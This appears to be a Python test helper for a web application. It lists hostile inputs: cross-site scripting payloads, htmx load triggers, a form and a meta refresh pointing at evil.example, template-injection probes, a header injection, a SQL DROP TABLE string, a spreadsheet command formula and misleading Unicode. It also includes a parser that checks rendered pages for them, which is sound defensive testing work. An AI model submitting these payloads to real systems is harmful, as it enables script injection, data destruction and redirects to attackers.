"""Texts that mean harm, and a reader that sees what a page makes of them."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "single quotes": "' onfocus='alert(1)' autofocus='",
    "closes the title": "</title><script>alert(1)</script>",
    "closes the text area": "</textarea><script>alert(1)</script>",
    "closes a script": "</script><script>alert(1)</script>",
    "comment": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "htmx": "<div hx-get=/timer/undo/ hx-trigger=load>",
    "htmx data": "<a data-hx-post=/sign-out/ data-hx-trigger=load>x</a>",
    "form": "</form><form action=https://evil.example method=post>",
    "meta": "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "style": "<style>*{display:none}</style>",
    "markdown link": "[click](javascript:alert(1))",
    "template": "{{ request.user.password }}{% debug %}",
    "template include": "{% include 'base.html' %}{# x #}",
    "format": "{0.__class__.__mro__} {name} %s %(name)s %d",
    "other templates": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "entities": "&lt;script&gt;&amp;&#60;",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069",
    "zero width": "a\u200bb\u200d\ufeffc",
    "odd letters": "ℌ𝔢𝔩𝔩𝔬 \U0001f468\u200d\U0001f469 ॐ Z\u0351\u036b",
    "line separators": "a\u2028b\u2029c",
    "header": "x\r\nSet-Cookie: evil=1",
    "sql": "'); DROP TABLE missions_mission;--",
    "formula": "=cmd|' /C calc'!A0",
    "noncharacters": "\ufffe\uffff\U0010ffff",
}
MARK = "MARKED"
LONGEST = 200


def bundles():
    """The texts side by side, as many as a field of LONGEST characters takes."""
    found, names, joined = {}, [], MARK
    for name, text in HOSTILE.items():
        if len(joined + text + MARK) > LONGEST:
            found[", ".join(names)] = joined
            names, joined = [], MARK
        names.append(name)
        joined += text + MARK
    return found | {", ".join(names): joined}


BUNDLES = bundles()


class Page(HTMLParser):
    """The elements of a page with their attribute names, and all of its text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = set()
        self.texts = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        names = {name for name, _ in attributes}
        self.elements |= {(tag, name) for name in names | {""}}
        self.texts += [value or "" for _, value in attributes]

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.elements.add(("comment", data))

    def holds(self, text):
        return any(text in part for part in self.texts)
